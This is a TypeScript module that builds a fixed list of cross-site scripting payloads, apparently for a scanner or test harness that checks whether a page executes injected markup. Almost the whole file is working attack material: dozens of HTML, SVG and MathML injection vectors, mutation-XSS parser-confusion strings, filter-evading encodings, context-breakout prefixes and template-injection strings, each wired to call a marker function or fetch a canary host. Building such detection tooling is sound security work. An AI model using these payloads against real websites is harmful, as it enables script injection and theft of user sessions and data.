/** Where a payload's requests would go. */
export const canaryHost = 'canary.invalid';

/** Each one runs `__xss(number)` or requests the canary host if a browser treats it as more than text. */
type Vector = (run: string, address: string) => string;

const vectors: Vector[] = [
  (run) => `<script>${run}</script>`,
  (_run, address) => `<script src=${address}></script>`,
  (run) => `<img src=x onerror=${run}>`,
  (run) => `<svg onload=${run}>`,
  (run) => `<svg><script>${run}</script></svg>`,
  (run) => `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  (run) => `<svg><a xlink:href="javascript:${run}"><text y=20>go</text></a></svg>`,
  (run) => `<svg><foreignObject><img src=x onerror=${run}></foreignObject></svg>`,
  (run) => `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  (run) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  (run) => `<math href="javascript:${run}">go</math>`,
  (run) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  (run) => `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  (run) => `<template><img src=x onerror=${run}></template><img src=x onerror=${run}>`,
  (run) => `<textarea><img title="</textarea><img src=x onerror=${run}>">`,
  (run) => `<xmp><p title="</xmp><img src=x onerror=${run}>">`,
  (run) => `<title><p title="</title><img src=x onerror=${run}>">`,
  (run) => `<noembed><img title="</noembed><img src=x onerror=${run}>"></noembed>`,
  (run) => `<!--><img src=x onerror=${run}>-->`,
  (run) => `<!-- --!><img src=x onerror=${run}> -->`,
  (run) => `<![CDATA[><img src=x onerror=${run}>]]>`,
  (run) => `<?xml version="1.0"?><img src=x onerror=${run}>`,
  (run) => `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  (run) => `<iframe src="javascript:parent.${run}"></iframe>`,
  (run) => `<object data="javascript:parent.${run}"></object>`,
  (run) => `<embed src="javascript:${run}">`,
  (run) => `<a href="javascript:${run}">open</a>`,
  (run) => `<a href="jav&#x09;ascript:${run}">open</a>`,
  (run) => `<a href="\u0001javascript:${run}">open</a>`,
  (run) => `<a href="data:text/html,<script>${run}</script>">open</a>`,
  (run) => `<a href="vbscript:${run}">open</a>`,
  (run) => `<form action="javascript:${run}"><button>send</button></form>`,
  (run) => `<button formaction="javascript:${run}" form=x>send</button>`,
  (run) => `<input autofocus onfocus=${run}>`,
  (run) => `<details open ontoggle=${run}>`,
  (run) => `<video><source onerror=${run}></video>`,
  (run) => `<audio src=x onerror=${run}>`,
  (run) => `<body onload=${run}>`,
  (run) => `<marquee onstart=${run}>go</marquee>`,
  (run) => `<style onload=${run}></style>`,
  (run) => `<b style="animation:spin 1s" onanimationstart=${run}>b</b>`,
  (run) => `<p contenteditable autofocus onfocus=${run}>p</p>`,
  (run) => `<li id=x tabindex=1 onfocus=${run}>li</li>`,
  (run) => `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  (_run, address) => `<meta http-equiv=refresh content="0;url=${address}">`,
  (_run, address) => `<base href=${address}>`,
  (_run, address) => `<link rel=stylesheet href=${address}>`,
  (_run, address) => `<link rel=prefetch href=${address}>`,
  (_run, address) => `<style>@import '${address}';</style>`,
  (_run, address) => `<div style="background:url(${address})">x</div>`,
  (_run, address) => `<img src=${address}>`,
  (_run, address) => `<img srcset="${address} 1x">`,
  (_run, address) => `<picture><source srcset=${address}><img></picture>`,
  (_run, address) => `<video poster=${address} autoplay>`,
  (_run, address) => `<iframe src=${address}></iframe>`,
  (_run, address) => `<svg><image href=${address} /></svg>`,
  (_run, address) => `<svg><use href="${address}#x" /></svg>`,
  (_run, address) => `<table background=${address}><tr><td>x</table>`,
];

const mixCase = (text: string) =>
  text.replace(/<(\/?)([a-z]+)/gi, (_all, slash: string, tag: string) => {
    const mixed = tag.split('').map((sign, index) => (index % 2 ? sign.toLowerCase() : sign.toUpperCase()));
    return `<${slash}${mixed.join('')}`;
  });

const entities = (text: string) => text.replace(/[&<>"'=]/g, (sign) => `&#${sign.charCodeAt(0)};`);

type Encoding = (text: string) => string;

/** Encodings that some parsers decode. */
const encodings: Encoding[] = [
  mixCase,
  (text) => text.replace(/<([a-z]+) /gi, '<$1/').replaceAll(' on', '/on'),
  (text) => text.replace(/<([a-z]+) /gi, '<$1\n\t'),
  (text) => text.replace(/<([a-z]+)/gi, '<$1\u0000'),
  (text) => text.replace(/ (on\w+)=/gi, ' $1 =\n'),
  entities,
  (text) => entities(entities(text)),
  (text) => text.replace(/[<>]/g, (sign) => encodeURIComponent(sign)),
  (text) => text.replaceAll('<', '\\u003c').replaceAll('>', '\\u003e'),
  (text) => text.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e'),
  (text) => text.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
  (text) => text.replace(/<([a-z]+)/i, '<<$1'),
  (text) => text.replace(/<([a-z]{2})([a-z]+)/i, '<$1<$1$2>$2'),
  (text) => text.replace(/>$/, ''),
];

/** Text that closes the surrounding context before the payload begins. */
const contexts: ((payload: string) => string)[] = [
  (payload) => `">${payload}`,
  (payload) => `'>${payload}`,
  (payload) => `--> ${payload}`,
  (payload) => `</title>${payload}`,
  (payload) => `</textarea>${payload}`,
  (payload) => `</script>${payload}`,
  (payload) => `</style>${payload}`,
  (payload) => `]]>${payload}`,
  (payload) => `*/</style>${payload}/*`,
  (payload) => `</p></li></ul></div></main>${payload}`,
  (payload) => `\u2028\u2029${payload}`,
  (payload) => `{"a":"${payload}"}`,
];

/** Texts that run when carelessly inserted into an attribute, a script, or a template. */
const bare: ((run: string) => string)[] = [
  (run) => `" onfocus=${run} autofocus x="`,
  (run) => `' onmouseover=${run} style='position:fixed;inset:0' x='`,
  (run) => `\` onerror=${run} x=\``,
  (run) => `javascript:${run}`,
  (run) => `JaVaScRiPt:${run}`,
  (run) => `java\nscript:${run}`,
  (run) => `javascript://web.example/%0a${run}`,
  (run) => `';${run};//`,
  (run) => `";${run};//`,
  (run) => `\\';${run};//`,
  (run) => `'-${run}-'`,
  (run) => `\${${run}}`,
  (run) => `{{constructor.constructor('${run}')()}}`,
  (run) => `{{${run}}}`,
  (run) => `<%= ${run} %>`,
  (run) => `#{${run}}`,
  (run) => `data:text/html,<script>${run}</script>`,
  (run) => `expression(${run})`,
  (run) => `</script><script>${run}</script>`,
  (run) => `-->'"/></sCript><svG x=">" onload=(${run})>`,
];

export interface XssPayload {
  /** Part of the payload, so that a page can be checked for showing it. */
  mark: string;
  text: string;
}

/** Every vector plain and in four other encodings, some behind every context; always the same list. */
export function listXssPayloads(): XssPayload[] {
  const payloads: XssPayload[] = [];
  const add = (write: Vector) => {
    const number = payloads.length;
    const mark = `x${String(number).padStart(4, '0')}x`;
    payloads.push({ mark, text: `${mark}${write(`__xss(${number})`, `//${canaryHost}/${number}`)}` });
  };
  for (const [index, vector] of vectors.entries()) {
    add(vector);
    for (const encode of chooseEncodings(vector, index)) add((run, address) => encode(vector(run, address)));
  }
  for (const [index, context] of contexts.entries())
    for (let turn = 0; turn < 5; turn++) {
      const vector = vectors[(index * 5 + turn * 11) % vectors.length] as Vector;
      add((run, address) => context(vector(run, address)));
    }
  for (const write of bare) add(write);
  return payloads;
}

/** Four that differ from the plain text, starting at another one for each vector. */
function chooseEncodings(vector: Vector, index: number): Encoding[] {
  const plain = vector('run', 'address');
  const changed = encodings.filter((encode) => encode(plain) !== plain);
  return Array.from({ length: 4 }, (_, turn) => changed[(index * 4 + turn) % changed.length] as Encoding);
}
